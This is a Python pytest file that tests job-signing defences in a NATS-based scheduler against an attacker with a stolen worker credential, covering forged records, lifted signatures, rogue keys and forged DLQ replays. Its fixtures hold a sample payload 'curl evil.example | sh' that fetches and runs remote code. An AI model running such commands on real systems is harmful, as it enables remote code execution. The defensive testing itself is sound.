"""Job authenticity, attacked with a stolen worker credential (issue 12, deliverable 2).

A real nats-server with the shipped accounts (tests/deploy/authserver.py), a scheduler and a
worker running as their roles, a console that signs what it submits, and an attacker: a raw
nats-py client logged in as the worker role. Every forged job must never run and must be
visibly refused (the record says why).
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import nats
import pytest

from chronos import codec
from chronos.client import Client
from chronos.models import DLQEntry, JobAuth, JobMessage, JobRecord, JobSpec
from chronos.runtime import SchedulerMain, WorkerMain, run_service
from chronos.signing import Signer, generate_keypair, parse_key, write_keypair
from chronos.states import JobState
from chronos.subjects import inbox_prefix
from chronos.worker.registry import Registry

from ..deploy.authserver import PASSWORDS, auth_server, role_settings, violations
from ..faults.conftest import wait_until

NS = "sec"


@pytest.fixture
async def deployment(tmp_path: Path):
    server = auth_server(tmp_path, NS).start()
    key_file, public = write_keypair(tmp_path / "keys")
    signing = {"security": {"signing_key_file": str(key_file)}}
    trusted = {"security": {"trusted_keys": [public]}}
    sched = {"rescue_after": 3.0, "lease_ttl": 3.0, "archive_path": str(tmp_path / "archive.sqlite3")}
    admin = await Client.connect(role_settings(server, NS, "admin", worker={"queues": ["default", "other"]}))
    await admin.close()

    ran: list[str] = []
    reg = Registry()

    async def pwn(cmd: str) -> str:  # stands in for `shell`: anything it runs is the breach
        from chronos.worker.context import current_job

        ctx = current_job()
        ran.append(ctx.job_id if ctx else "?")
        return f"ran {cmd}"

    reg.register(pwn, name="sec.pwn")
    worker = WorkerMain(role_settings(server, NS, "worker", worker={"queues": ["default", "other"]}, **trusted),
                        reg, concurrency=4)
    scheduler = SchedulerMain(role_settings(server, NS, "scheduler", scheduler=sched, **signing), node_id="sec-1",
                              rescuer_tick=0.5)
    stop = asyncio.Event()
    services = asyncio.ensure_future(run_service(worker, scheduler, grace=5, stop=stop, signals=()))
    console = await Client.connect(role_settings(server, NS, "console", **signing), ensure=False)
    attacker = await nats.connect(server.url, user="chronos-worker", password=PASSWORDS["worker"],
                                  inbox_prefix=inbox_prefix("chronos-worker"))
    try:
        await asyncio.wait_for(asyncio.gather(worker.ready.wait(), scheduler.service.leading.wait()), 30)
        yield server, console, attacker, ran, scheduler
    finally:
        await attacker.close()
        await console.close()
        stop.set()
        await asyncio.wait_for(services, 30)
        server.cleanup()


def forged(job_id: str, *, state: JobState = JobState.RUNNING, auth: JobAuth | None = None,
           args: list | None = None) -> JobRecord:
    old = time.time() - 3600
    spec = JobSpec(task="sec.pwn", args=args or ["curl evil.example | sh"], queue="other", max_attempts=3)
    return JobRecord(id=job_id, spec=spec, state=state, created_at=old, updated_at=old, attempt=1,
                     worker="ghost-worker", auth=auth)


async def write_record(attacker: nats.NATS, rec: JobRecord) -> None:
    """What the worker role is allowed to do: put a record into the jobs bucket."""
    js = attacker.jetstream()
    await js.publish(f"$KV.{NS}_jobs.{rec.id}", codec.encode(rec))


async def refused(console: Client, job_id: str, timeout: float = 20.0) -> JobRecord:
    async def check() -> bool:
        rec = await console.ops.read_or_none(job_id)
        return rec is not None and rec.state in (JobState.DISCARDED, JobState.CANCELLED)

    await wait_until(check, timeout, f"job {job_id} to be refused")
    return await console.get(job_id)


async def test_signed_jobs_run(deployment):
    """The control: a job the console signed runs on the worker that verifies it."""
    server, console, attacker, ran, _ = deployment
    job = await console.submit("sec.pwn", ["echo hello"], queue="other")
    rec = await console.wait(job, timeout=20)
    assert rec.state == JobState.COMPLETED and ran == [job]
    assert rec.auth is not None


async def test_forged_running_record_is_not_rescued_into_a_run(deployment):
    """The attack seen in issue 12: a worker writes a `running` record for a worker that does not
    exist, old updated_at, on another queue; the rescuer used to republish it and a worker ran it."""
    server, console, attacker, ran, scheduler = deployment
    await write_record(attacker, forged("f0rged00000000000000000001"))
    rec = await refused(console, "f0rged00000000000000000001")
    assert rec.state == JobState.DISCARDED
    assert rec.error is not None and rec.error.startswith("refused: unsigned job")
    assert "f0rged00000000000000000001" in scheduler.service.rescuer.refused
    assert ran == []


async def test_signature_copied_from_a_real_job_does_not_cover_a_new_spec(deployment):
    """A valid signature lifted from a legitimate job, on changed args or under another id."""
    server, console, attacker, ran, _ = deployment
    real = await console.submit("sec.pwn", ["echo fine"], queue="other")
    await console.wait(real, timeout=20)
    stolen = (await console.get(real)).auth
    assert stolen is not None
    await write_record(attacker, forged("f0rged00000000000000000002", auth=stolen))  # other args, other id
    rec = await refused(console, "f0rged00000000000000000002")
    assert rec.error is not None and "bad signature" in rec.error
    assert ran == [real]


async def test_forged_record_republished_by_an_operator_is_refused_by_the_worker(deployment):
    """The worker is the last check: a forged record retried from the console (which republishes
    the record as stored) reaches a worker, which refuses it before calling the task."""
    server, console, attacker, ran, _ = deployment
    await write_record(attacker, forged("f0rged00000000000000000003", state=JobState.DISCARDED))
    await console.retry("f0rged00000000000000000003")

    async def worker_refused() -> bool:
        rec = await console.get("f0rged00000000000000000003")
        return rec.state == JobState.DISCARDED and (rec.error or "").startswith("refused:")

    await wait_until(worker_refused, 20, "the worker to refuse the forged job")
    assert ran == []
    entry = await console.dlq_get("f0rged00000000000000000003")
    assert entry.reason.startswith("refused: unsigned job")


async def test_job_signed_with_a_key_nobody_trusts(deployment):
    server, console, attacker, ran, _ = deployment
    rogue = Signer(parse_key(generate_keypair()[0]), NS)
    rec = forged("f0rged00000000000000000004")
    rec.auth = rogue.sign([rec])[0]
    await write_record(attacker, rec)
    got = await refused(console, "f0rged00000000000000000004")
    assert got.error is not None and "unknown key" in got.error
    assert ran == []


async def test_worker_published_work_for_a_forged_record_never_runs(deployment):
    """Workers may publish work messages and pending markers (workflow node starts, limit
    re-parks; docs/security.md), so the server no longer refuses them: a forged record with its
    own work message and a pending marker must still be refused by the worker that takes it."""
    server, console, attacker, ran, _ = deployment
    job_id = "f0rged00000000000000000005"
    rec = forged(job_id, state=JobState.AVAILABLE)
    js = attacker.jetstream()
    ack = await js.publish(f"$KV.{NS}_jobs.{job_id}", codec.encode(rec))
    await js.publish(f"$KV.{NS}_control.pending.{job_id}", b"\x80")
    await js.publish(f"{NS}.jobs.default.other", codec.encode(JobMessage(record=rec, rev=ack.seq)))
    got = await refused(console, job_id)
    assert got.state == JobState.DISCARDED
    assert got.error is not None and got.error.startswith("refused: unsigned job")
    assert ran == []
    # What the worker role still may not do: cancel requests, schedules, the lease.
    await attacker.publish(f"$KV.{NS}_control.cancel.{job_id}", b"x")
    await attacker.publish(f"$KV.{NS}_schedules.pwn", b"x")
    await attacker.flush()

    def refused_by_server() -> bool:
        subjects = {s for kind, user, s in violations(server) if user == "chronos-worker" and kind == "Publish"}
        return {f"$KV.{NS}_control.cancel.{job_id}", f"$KV.{NS}_schedules.pwn"} <= subjects

    await wait_until(refused_by_server, 10, "the server to refuse both publishes")


async def test_forged_dlq_entry_replayed_by_an_operator_never_runs(deployment):
    """A worker may write DLQ entries. One for a job with no record (as if pruned), carrying a spec
    of its choosing: a replay must bring it back with the signature the entry had (none), never a
    new one, so the worker refuses it."""
    server, console, attacker, ran, _ = deployment
    job_id = "f0rged00000000000000000006"
    entry = DLQEntry(reason="attempts exhausted", at=time.time(), job_id=job_id,
                     spec=JobSpec(task="sec.pwn", args=["touch /tmp/pwned"], queue="other"))
    ack = await attacker.jetstream().publish(f"{NS}.dlq.other", codec.encode(entry),
                                             headers={"Chronos-Job-Id": job_id})
    assert ack.seq > 0
    rec = await console.dlq_replay(job_id)
    assert rec.auth is None  # not signed by the console's key

    async def worker_refused() -> bool:
        got = await console.ops.read_or_none(job_id)
        return got is not None and got.state == JobState.DISCARDED and (got.error or "").startswith("refused:")

    await wait_until(worker_refused, 20, "the worker to refuse the replayed forged job")
    assert ran == []
